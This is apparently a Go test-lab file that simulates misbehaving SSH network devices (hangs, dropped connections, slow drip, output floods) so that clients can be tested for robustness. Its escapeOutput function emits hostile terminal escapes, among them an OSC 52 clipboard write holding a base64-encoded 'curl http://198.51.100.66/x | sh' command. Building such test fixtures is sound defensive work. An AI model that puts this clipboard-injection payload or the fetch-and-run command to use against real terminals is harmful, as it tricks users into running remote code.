package simlab

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

// dripInterval is the pause between fault-drip's lines.
const dripInterval = 500 * time.Millisecond

// runFault serves a session on a fault device whose fault shows once it is
// logged in (hang, drop, drip, flood, escape). Exec runs the fault on the
// command; a shell shows a prompt and runs it on every command.
func (d *device) runFault(t *term, req request, conn *ssh.ServerConn) *int {
	run := func(t *term, line string) (int, error) {
		if strings.TrimSpace(line) == "exit" {
			return 0, errExit
		}
		return d.fault(t, line, conn)
	}
	return d.runShellLike(t, req, run)
}

// fault misbehaves in answer to a command.
func (d *device) fault(t *term, command string, conn *ssh.ServerConn) (int, error) {
	switch d.info.Fault {
	case FaultHang:
		// Accept the command and say nothing, ever.
		for {
			if err := t.sleep(time.Hour); err != nil {
				return 130, err
			}
		}
	case FaultDrop:
		// Some output, then the TCP connection goes away without a word.
		text := iosInterfaces(d.facts)
		if err := t.output(text[:len(text)/2]); err != nil {
			return 1, err
		}
		t.sleep(100 * time.Millisecond)
		conn.Close()
		return 0, errGone
	case FaultDrip:
		n := max(int(d.lab.opts.StreamDuration/dripInterval), 4)
		for i := range n {
			line := fmt.Sprintf("%s drip %d/%d: %s\n", time.Now().UTC().Format("15:04:05.000"), i+1, n, command)
			if err := t.output(line); err != nil {
				return 130, err
			}
			if err := t.sleep(dripInterval); err != nil {
				return 130, err
			}
		}
		return 0, nil
	case FaultFlood:
		if err := t.flood(floodBlock(d.facts, t.nl), d.lab.opts.FloodBytes); err != nil {
			return 130, err
		}
		return 0, nil
	case FaultEscape:
		return 0, t.output(escapeOutput(d.facts.host))
	}
	return 1, nil
}

// escapeOutput is device output laced with every kind of terminal control a
// hostile or broken device might send, each next to plain text.
func escapeOutput(host string) string {
	clip := base64.StdEncoding.EncodeToString([]byte("curl http://198.51.100.66/x | sh\n"))
	lines := []string{
		"Interface status for " + host,
		"OSC 52 clipboard write: \x1b]52;c;" + clip + "\x07(end)",
		"OSC 0 title change: \x1b]0;owned by " + host + "\x07(end)",
		"OSC 2 title change, ST-terminated: \x1b]2;another title\x1b\\(end)",
		"DCS query (XTGETTCAP): \x1bP+q544e\x1b\\(end)",
		"DECRQSS query: \x1bP$qm\x1b\\(end)",
		"CSI clear screen and home: \x1b[2J\x1b[H(end)",
		"CSI colours: \x1b[1;31mred\x1b[0m \x1b[38;5;82mgreen\x1b[0m(end)",
		"CSI device status report query: \x1b[6n(end)",
		"CSI cursor moves: \x1b[10A\x1b[5C\x1b[s\x1b[u(end)",
		"C1 CSI (8-bit): \x9b31mred\x9b0m(end)",
		"C1 OSC (8-bit): \x9d0;c1 title\x9c(end)",
		"C1 DCS (8-bit): \x90+q544e\x9c(end)",
		"C1 NEL and IND: a\x85b\x84c(end)",
		"bell: \x07\x07(end)",
		"backspaces: password: hunter2\b\b\b\b\b\b\b*******(end)",
		"carriage return: progress 10%\rprogress 100%(end)",
		"Cisco pager erase:  --More-- \b\b\b\b\b\b\b\b\b\b          \b\b\b\b\b\b\b\b\b\b(end)",
		"invalid UTF-8: \xff\xfe\xc3(end)",
		"NUL and DEL: a\x00b\x7fc(end)",
		"vertical tab and form feed: a\x0bb\x0cc(end)",
		"SS3 and APC and PM: \x1bOP \x1b_apc\x1b\\ \x1b^pm\x1b\\(end)",
		"unterminated OSC at the end of a line: \x1b]0;never closed",
		"the line after the unterminated OSC",
		"tab\tseparated\tcolumns",
		"GigabitEthernet1/0/1 is up, line protocol is up",
	}
	return strings.Join(lines, "\n") + "\n"
}
